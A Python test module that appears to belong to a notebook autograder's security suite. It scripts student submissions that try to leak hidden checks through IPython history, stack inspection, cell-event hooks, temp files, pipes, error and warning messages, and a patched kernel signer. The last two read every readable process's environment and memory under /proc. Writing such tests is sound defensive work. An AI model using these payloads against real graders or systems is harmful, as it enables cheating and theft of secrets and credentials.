"""Attempts to copy hidden checks and other secrets of the grader into the graded notebook."""

from .attack import LOOT, HandIn, attack


@attack(stock="succeeds")
def prints_the_history(student: HandIn) -> None:
    """It prints IPython's history, which contains the source of each cell."""
    student.last(LOOT + "loot(In, _ih, list(get_ipython().history_manager.get_range()))")


@attack(stock="succeeds")
def prints_the_stack(student: HandIn) -> None:
    """Its function prints the source and the variables of its callers."""
    student.answer(
        LOOT
        + """
import inspect, linecache

def norm(x):
    for frame in inspect.stack():
        loot(linecache.getlines(frame.filename), frame.frame.f_globals)
    return 0.0
"""
    )


@attack(stock="succeeds")
def listens_before_each_cell(student: HandIn) -> None:
    """It registers a callback to which IPython shows each cell before it executes it."""
    student.first("heard = []\nget_ipython().events.register('pre_run_cell', heard.append)")
    student.last(LOOT + "loot([info.raw_cell for info in heard])")


@attack(stock="succeeds")
def prints_the_arguments(student: HandIn) -> None:
    """Its function prints its arguments, which are part of the hidden check."""
    student.answer(
        """
        import sys

        def norm(x):
            print(x.tolist())
            print(x.tolist(), file=sys.stderr)
            return 0.0
        """
    )


@attack(stock="succeeds")
def remembers_the_arguments(student: HandIn) -> None:
    """Its function only remembers its arguments, and a later cell prints them."""
    student.answer(
        """
        seen = []

        def norm(x):
            seen.append(x.tolist())
            return 0.0
        """
    )
    student.last("print(seen)")


@attack(stock="succeeds")
def writes_the_arguments_down(student: HandIn) -> None:
    """Its function writes its arguments to files, and a later cell prints these."""
    student.answer(
        """
        import tempfile
        places = [".", tempfile.gettempdir(), "/dev/shm"]

        def norm(x):
            for place in places:
                with open(f"{place}/seen.txt", "a") as file:
                    print(x.tolist(), file=file)
            return 0.0
        """
    )
    student.last(
        """
        import os
        for place in places:
            if os.path.exists(f"{place}/seen.txt"):
                print(open(f"{place}/seen.txt").read())
        """
    )


@attack(stock="succeeds")
def whispers_to_a_thread(student: HandIn) -> None:
    """Its function passes its arguments through shared memory and a pipe to a later cell."""
    student.answer(
        """
        import mmap, os, threading, time
        shared = mmap.mmap(-1, 4096)
        receiver, sender = os.pipe()

        def norm(x):
            shared.write(str(x.tolist()).encode())
            os.write(sender, str(x.tolist()).encode())
            return 0.0
        """
    )
    student.last(
        """
        os.set_blocking(receiver, False)
        print(shared[:4096].strip(b"\\0").decode())
        print(os.read(receiver, 4096).decode())
        """
    )


@attack(stock="gives up")
def signs_with_the_arguments(student: HandIn) -> None:
    """It signs its messages with the arguments, because an error may quote the signature."""
    student.answer("seen = []\n\ndef norm(x):\n    seen.append(x.tolist())\n    return 0.0")
    student.last(
        """
        get_ipython().kernel.session.sign = lambda message: str(seen).encode()
        print("This is signed by somebody else.")
        """
    )


@attack(stock="succeeds")
def tells_the_arguments_to_a_visible_check(student: HandIn) -> None:
    """It moves a visible check behind a hidden one, and raises an error with the arguments."""
    student.move_last("norm-of-the-sample")
    student.answer(
        """
        seen = []

        def norm(x):
            seen.append(x.tolist())
            raise ValueError(seen)
        """
    )


@attack(stock="succeeds", due=2)
def answers_a_visible_check_with_the_arguments(student: HandIn) -> None:
    """It moves a visible check behind a hidden one, and returns the arguments there."""
    student.move_last("square-of-three")
    student.answer(
        """
        seen = []

        def norm(x):
            seen.extend(x.tolist())
            return 0.0

        def square(x):
            return np.array(seen[-3:-1])
        """
    )


@attack(stock="succeeds")
def names_an_error_after_the_arguments(student: HandIn) -> None:
    """The page says how a cell ended, and the name of the error is the student's."""
    student.answer("seen = []\n\ndef norm(x):\n    seen.append(x.tolist())\n    return 0.0")
    student.last("raise type(f'Saw {seen}', (Exception,), {})()")


@attack(stock="succeeds")
def warns_of_the_arguments(student: HandIn) -> None:
    """A warning is neither an error nor something printed, and a page may show it all the same."""
    student.answer(
        """
        import warnings
        seen = []

        def norm(x):
            seen.append(x.tolist())
            warnings.warn(str(seen))
            return 0.0
        """
    )
    student.last("warnings.warn(str(seen))")


@attack(stock="succeeds")
def prints_the_environment(student: HandIn) -> None:
    """It prints the environment of its own process and of all others that it can read."""
    student.last(
        LOOT
        + """
import os

loot(os.environ)
for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        loot(open(f"/proc/{number}/environ", "rb").read())
    except OSError:
        pass
"""
    )


@attack(stock="succeeds")
def searches_memory(student: HandIn) -> None:
    """It searches the memory of its own process and of all others that it can read."""
    student.last(
        LOOT
        + """
import os

for number in filter(str.isdigit, os.listdir("/proc")):
    try:
        memory = open(f"/proc/{number}/mem", "rb", 0)
        maps = open(f"/proc/{number}/maps").read().splitlines()
    except OSError:
        continue
    for line in maps:
        area, rights, *_ = line.split()
        start, end = (int(x, 16) for x in area.split("-"))
        if rights.startswith("rw") and end - start < 2**28:
            try:
                memory.seek(start)
                loot(memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                pass
"""
    )
